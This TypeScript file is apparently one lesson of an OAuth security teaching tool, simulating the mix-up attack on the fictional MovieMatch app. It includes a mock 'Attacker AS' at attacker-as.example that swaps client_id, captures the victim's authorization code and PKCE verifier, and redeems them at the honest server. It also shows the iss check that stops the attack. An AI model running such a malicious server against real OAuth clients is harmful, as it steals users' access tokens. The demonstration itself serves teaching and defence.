import { requestOnly } from '@/protocol/http-exchange.ts'
import { traceEntry } from '@/protocol/trace.ts'
import { browseOperation, browserSteps } from '../../browser-steps.ts'
import { checkAuthorizationResponse } from '../../client/authorization.ts'
import { discover } from '../../client/discovery.ts'
import { requireValue } from '../../client/recorder.ts'
import { exchangeCode } from '../../client/token.ts'
import type { ClientConfig } from '../../client-config.ts'
import { asOf } from '../../common-steps.ts'
import { FlowError } from '../../flow-error.ts'
import { flowKit, type Operation, type Operations, type StepPorts } from '../../flow-kit.ts'
import { authorizationRequestOperation, type AuthorizingContext } from '../../redirect-steps.ts'
import type { StepMeta } from '../../step.ts'
import { attackerReadsApi, attackerRedeems, attackerRequest, short, stoppedByClient } from '../attacker.ts'
import { attackerJson, attackerNote, withAttackerSite, type AttackerSite } from '../attacker-site.ts'

/**
 * Lesson: the mix-up attack (RFC 9700 §4.4). MovieMatch can log users in at two authorization
 * servers; one of them, "Attacker AS", belongs to the attacker. Alice picks it; it sends her on to
 * the honest server with MovieMatch's client_id there, she signs in, and the code comes back to
 * MovieMatch — which still believes it is talking to Attacker AS, and sends the code (and its PKCE
 * verifier) to Attacker AS's token endpoint. The `iss` parameter (RFC 9207) names the server that
 * really answered; a client that compares it with the one it chose stops there.
 */

/** What the attacker knows of the honest server and of MovieMatch there: all public. */
interface HonestSide {
  readonly authorizationEndpoint: string
  readonly tokenEndpoint: string
  readonly clientId: string
  readonly redirectUri: string
}

interface Ctx extends AuthorizingContext {
  readonly honest?: HonestSide | undefined
  readonly code?: string | undefined
  readonly stolen?: { readonly code: string; readonly codeVerifier: string } | undefined
  readonly attackerToken?: string | undefined
}

/** The attacker's authorization server, at an origin of its own. */
export const attackerIssuer = 'https://attacker-as.example'
/** MovieMatch's client_id at Attacker AS (its client_id at the honest server is another). */
const clientIdAtAttacker = 'moviematch'

/** MovieMatch's registration at Attacker AS: same redirect URI, same settings. */
const atAttackerAs = (config: ClientConfig): ClientConfig => ({
  ...config,
  issuer: attackerIssuer,
  clientId: clientIdAtAttacker,
})

const rule = {
  quote:
    'Clients MUST then compare the result to the issuer identifier of the authorization server where the authorization request was sent to. If both URIs do not match, the client MUST reject the authorization response and MUST NOT proceed with the authorization grant.',
  refs: ['rfc9207-2.4', 'rfc9700-4.4.2'],
} as const

export const mixUpSteps = {
  attackerPrepares: {
    title: 'The attacker reads the honest server’s configuration',
    from: 'attacker',
    to: 'as',
    channel: 'back',
    explanation:
      'The attacker runs an authorization server of their own, “Attacker AS”, and has registered MovieMatch there — MovieMatch lets users sign in with more than one provider. To prepare, the attacker looks up the honest server’s authorization and token endpoints: they are public. So is MovieMatch’s client_id there; it is in every login link.',
    refs: ['rfc9700-4.4', 'oidc-discovery-4'],
  },
  discovery: {
    title: 'MovieMatch reads Attacker AS’s configuration',
    from: 'client',
    to: 'attacker',
    channel: 'back',
    explanation:
      'Alice clicks “Log in with Attacker AS” at MovieMatch (or the attacker swapped her choice on the way). MovieMatch fetches that server’s discovery document. Everything checks out: the issuer is exactly the one MovieMatch asked for, and the endpoints are on the attacker’s own origin.',
    refs: ['oidc-discovery-4', 'rfc8414-3'],
  },
  authorizationRequest: {
    title: 'MovieMatch sends Alice to Attacker AS',
    from: 'client',
    to: 'browser',
    channel: 'front',
    explanation:
      'MovieMatch builds an ordinary authorization request for Attacker AS, with its client_id there, its redirect URI, a fresh state, a nonce and a PKCE challenge — and remembers that this login is with Attacker AS.',
    refs: ['rfc6749-4.1.1', 'rfc7636-4.3'],
  },
  attackerHop: {
    title: 'Attacker AS sends Alice on to the honest server',
    from: 'browser',
    to: 'attacker',
    channel: 'front',
    explanation:
      'Attacker AS does not show a login page of its own. It redirects the browser to the honest server’s authorization endpoint with the same request, except for the client_id: it puts in MovieMatch’s client_id at the honest server. state, redirect URI and PKCE challenge pass through untouched.',
    refs: ['rfc9700-4.4'],
  },
  authorize: {
    ...browserSteps.authorize,
    explanation:
      'The honest server sees a perfectly valid request from MovieMatch: registered client_id, registered redirect URI, a PKCE challenge. It shows its login page.',
  },
  consent: {
    ...browserSteps.consent,
    explanation:
      'Alice signs in at the honest server and allows MovieMatch — the app she wanted. The server redirects her back to MovieMatch with the code, state and iss, which names the honest server.',
  },
  callback: {
    title: 'The browser brings the code back to MovieMatch',
    from: 'browser',
    to: 'client',
    channel: 'front',
    explanation:
      'MovieMatch checks the response before using it. state matches: this is the response to its own request. Then iss: RFC 9207 makes every authorization server say who it is in the response, because the client cannot otherwise tell which server the code came from.',
    variantNotes: {
      vulnerable:
        'Vulnerable: this client is set to skip the iss check (the client misbehave setting ignore-iss), as clients did before RFC 9207. It still believes the code comes from Attacker AS.',
      hardened:
        'Hardened: iss is the honest server, but MovieMatch sent Alice to Attacker AS. The two do not match, so MovieMatch rejects the response and never sends the code anywhere.',
    },
    refs: ['rfc9207-2.4', 'rfc6749-10.12'],
  },
  tokenRequest: {
    title: 'MovieMatch sends the code to Attacker AS',
    from: 'client',
    to: 'attacker',
    channel: 'back',
    explanation:
      'MovieMatch redeems the code where it thinks it came from: at Attacker AS’s token endpoint — with its PKCE code_verifier. The attacker’s server writes both down and answers with an error; MovieMatch shows Alice “please try again”.',
    refs: ['rfc9700-4.4', 'rfc6749-4.1.3'],
  },
  attackerRedeems: {
    title: 'The attacker redeems the code at the honest server',
    from: 'attacker',
    to: 'as',
    channel: 'back',
    explanation:
      'The attacker sends the code to the honest server’s token endpoint as MovieMatch would: its client_id there, its redirect URI, and the code_verifier MovieMatch just handed over. PKCE binds the code to the verifier, not to the server it is sent to — so it cannot help here.',
    refs: ['rfc6749-4.1.3', 'rfc7636-4.6', 'rfc9700-4.4'],
  },
  attackerUsesToken: {
    title: 'The attacker reads Alice’s data',
    from: 'attacker',
    to: 'rs',
    channel: 'back',
    explanation:
      'With the access token the honest server issued for Alice to MovieMatch, the attacker reads her friends’ movies.',
    refs: ['rfc6750-2.1'],
  },
} as const satisfies Record<string, StepMeta>

const S = mixUpSteps

/**
 * Attacker AS: a discovery document, an authorization endpoint that forwards the browser to the
 * honest server with MovieMatch's client_id there, and a token endpoint that records what it gets.
 */
function attackerAs(honest: HonestSide, received: URLSearchParams[]): AttackerSite {
  return async (request) => {
    const url = new URL(request.url)
    switch (`${request.method} ${url.pathname}`) {
      case 'GET /.well-known/openid-configuration':
        return attackerJson(
          {
            issuer: attackerIssuer,
            authorization_endpoint: `${attackerIssuer}/authorize`,
            token_endpoint: `${attackerIssuer}/token`,
            jwks_uri: `${attackerIssuer}/jwks`,
            response_types_supported: ['code'],
            subject_types_supported: ['public'],
            id_token_signing_alg_values_supported: ['RS256'],
            code_challenge_methods_supported: ['S256'],
            authorization_response_iss_parameter_supported: true,
          },
          200,
          [attackerNote('Attacker AS publishes an ordinary-looking configuration under its own issuer')],
        )
      case 'GET /authorize': {
        const onward = new URL(honest.authorizationEndpoint)
        for (const [name, value] of url.searchParams) onward.searchParams.set(name, value)
        onward.searchParams.set('client_id', honest.clientId)
        return {
          response: new Response(null, { status: 302, headers: { location: onward.href } }),
          trace: [
            attackerNote(
              `Attacker AS swaps client_id ${url.searchParams.get('client_id') ?? '(none)'} for ${honest.clientId}, MovieMatch’s client_id at the honest server, and forwards everything else`,
            ),
          ],
        }
      }
      case 'POST /token': {
        const form = new URLSearchParams(await request.text())
        received.push(form)
        return attackerJson(
          { error: 'invalid_grant', error_description: 'The code has expired. Please sign in again.' },
          400,
          [
            attackerNote(
              `Attacker AS records code=${short(form.get('code') ?? '')} and code_verifier=${short(form.get('code_verifier') ?? '')}, and answers with an error`,
            ),
          ],
        )
      }
      default:
        return attackerJson({ error: 'not_found' }, 404, [])
    }
  }
}

const routed = (ctx: Ctx, ports: StepPorts, received: URLSearchParams[] = []) =>
  withAttackerSite(
    ports,
    attackerIssuer,
    attackerAs(requireValue(ctx.honest, 'The honest server’s endpoints'), received),
  )

/** The browser's hops, the first of them through Attacker AS. */
function browse(): Operation<Ctx> {
  const inner = browseOperation<Ctx>({
    redirectUri: (ctx) => ctx.config.redirectUri,
    steps: { authorize: S.authorize, consent: S.consent },
  })
  return {
    meta: S.attackerHop,
    outline: [S.attackerHop, ...(inner.outline ?? [])],
    async run(ctx, ports) {
      const toAttacker = ctx.pending !== undefined && new URL(ctx.pending.url).origin === attackerIssuer
      const result = await inner.run(ctx, routed(ctx, ports))
      return toAttacker ? { ...result, meta: S.attackerHop } : result
    },
  }
}

const operations = {
  attackerPrepares: {
    meta: S.attackerPrepares,
    async run(ctx, ports) {
      const answer = await attackerRequest(ports, `${ctx.config.issuer}/.well-known/openid-configuration`)
      const endpoint = (name: string) =>
        requireValue(answer.body?.[name] as string | undefined, `The honest server’s ${name}`)
      const honest: HonestSide = {
        authorizationEndpoint: endpoint('authorization_endpoint'),
        tokenEndpoint: endpoint('token_endpoint'),
        clientId: ctx.config.clientId,
        redirectUri: requireValue(ctx.config.redirectUri, 'MovieMatch’s redirect URI'),
      }
      return {
        exchange: answer.exchange,
        values: [
          { name: 'authorization_endpoint', value: honest.authorizationEndpoint },
          { name: 'token_endpoint', value: honest.tokenEndpoint },
          { name: 'client_id', value: honest.clientId, note: 'MovieMatch’s, at the honest server.' },
        ],
        patch: { honest },
      }
    },
  },
  discovery: {
    meta: S.discovery,
    async run(ctx, ports) {
      const config = atAttackerAs(ctx.config)
      const found = await discover(routed(ctx, ports).transport, config.issuer, [
        'authorization_endpoint',
        'token_endpoint',
      ])
      return { exchange: found.exchange, checks: found.checks, patch: { as: found.as, config } }
    },
  },
  authorizationRequest: authorizationRequestOperation<Ctx>(S.authorizationRequest),
  browse: browse(),
  callback: {
    meta: S.callback,
    async run(ctx) {
      const url = requireValue(ctx.callbackUrl, 'The callback URL')
      const exchange = await requestOnly(new Request(url))
      const screens = [
        { kind: 'browser', lane: 'browser', url, note: 'Back at MovieMatch with a code.' },
      ] as const
      try {
        const { checks, params } = checkAuthorizationResponse(
          asOf(ctx),
          ctx.config,
          url,
          requireValue(ctx.request, 'The authorization request'),
        )
        return { exchange, screens, checks, patch: { code: requireValue(params['code'], 'The code') } }
      } catch (e) {
        if (
          !(e instanceof FlowError) ||
          !e.checks.some((c) => c.check === 'iss-matches' && c.outcome === 'fail')
        )
          throw e
        const verdict = stoppedByClient(
          e.checks,
          'MovieMatch saw that the response came from the honest server, not from Attacker AS where it sent Alice, and dropped it: the code never left the client.',
          rule,
        )
        return { exchange, screens, checks: e.checks, verdict, outcome: 'refused' }
      }
    },
  },
  tokenRequest: {
    meta: S.tokenRequest,
    async run(ctx, ports) {
      const received: URLSearchParams[] = []
      const now = ports.clock.now()
      const code = requireValue(ctx.code, 'The code')
      const request = requireValue(ctx.request, 'The authorization request')
      let exchange
      try {
        exchange = (
          await exchangeCode(
            routed(ctx, ports, received).transport,
            asOf(ctx),
            ctx.config,
            code,
            request,
            now,
          )
        ).exchange
      } catch (e) {
        if (!(e instanceof FlowError) || e.exchange === undefined) throw e
        exchange = e.exchange
      }
      const form = received[0]
      const stolen = {
        code: requireValue(form?.get('code') ?? undefined, 'The code Attacker AS received'),
        codeVerifier: requireValue(
          form?.get('code_verifier') ?? undefined,
          'The verifier Attacker AS received',
        ),
      }
      return {
        exchange,
        checks: [
          traceEntry(
            'info',
            'token-endpoint',
            `${new URL(exchange.request.url).origin} answered ${exchange.response?.status ?? 'nothing'}: MovieMatch asks Alice to try again; the code and its verifier are now the attacker’s`,
            ['rfc9700-4.4'],
          ),
        ],
        values: [
          { name: 'code', value: stolen.code, note: 'Alice’s code, issued by the honest server.' },
          { name: 'code_verifier', value: stolen.codeVerifier, note: 'Handed over with it.' },
        ],
        patch: { stolen },
      }
    },
  },
  attackerRedeems: {
    meta: S.attackerRedeems,
    async run(ctx, ports) {
      const honest = requireValue(ctx.honest, 'The honest server’s endpoints')
      const stolen = requireValue(ctx.stolen, 'The stolen code')
      const { exchange, token } = await attackerRedeems(
        ports,
        honest.tokenEndpoint,
        {
          grant_type: 'authorization_code',
          code: stolen.code,
          redirect_uri: honest.redirectUri,
          client_id: honest.clientId,
          code_verifier: stolen.codeVerifier,
        },
        'the code Attacker AS received',
      )
      return {
        exchange,
        values: [{ name: 'access_token', value: token, note: 'Issued for Alice — to the attacker.' }],
        patch: { attackerToken: token },
      }
    },
  },
  attackerUsesToken: attackerReadsApi<Ctx>(
    S.attackerUsesToken,
    (ctx) => ctx.attackerToken,
    (ctx, token, status) => ({
      summary: `MovieMatch did not check iss, so it sent Alice’s code and PKCE verifier to Attacker AS; the attacker redeemed them at the honest server and read her data (API answered ${status}).`,
      got: [
        { name: 'code', value: requireValue(ctx.stolen, 'The code').code, note: 'Received at Attacker AS' },
        { name: 'access_token', value: token, note: 'Alice’s access token' },
      ],
    }),
    rule,
  ),
} satisfies Operations<Ctx>

const kit = flowKit<Ctx>(operations)

export const mixUpMachine = kit.setup.createMachine({
  id: 'lesson-mix-up',
  context: ({ input }) => ({ ...input, steps: [] }),
  initial: 'ready',
  states: {
    ready: kit.gate('attackerPrepares'),
    attackerPrepares: kit.step('attackerPrepares', 'prepared'),
    prepared: kit.gate('discovery'),
    discovery: kit.step('discovery', 'discovered'),
    discovered: kit.gate('authorizationRequest'),
    authorizationRequest: kit.step('authorizationRequest', 'redirecting'),
    ...kit.redirectStates('callback'),
    callback: kit.step('callback', { refused: 'complete', otherwise: 'haveCode' }),
    haveCode: kit.gate('tokenRequest'),
    tokenRequest: kit.step('tokenRequest', 'codeLeaked'),
    codeLeaked: kit.gate('attackerRedeems'),
    attackerRedeems: kit.step('attackerRedeems', 'attackerHasToken'),
    attackerHasToken: kit.gate('attackerUsesToken'),
    attackerUsesToken: kit.step('attackerUsesToken', 'complete'),
    complete: { type: 'final' },
    failed: { type: 'final', tags: ['failed'] },
  },
})

export const mixUpLesson = kit.define(mixUpMachine)
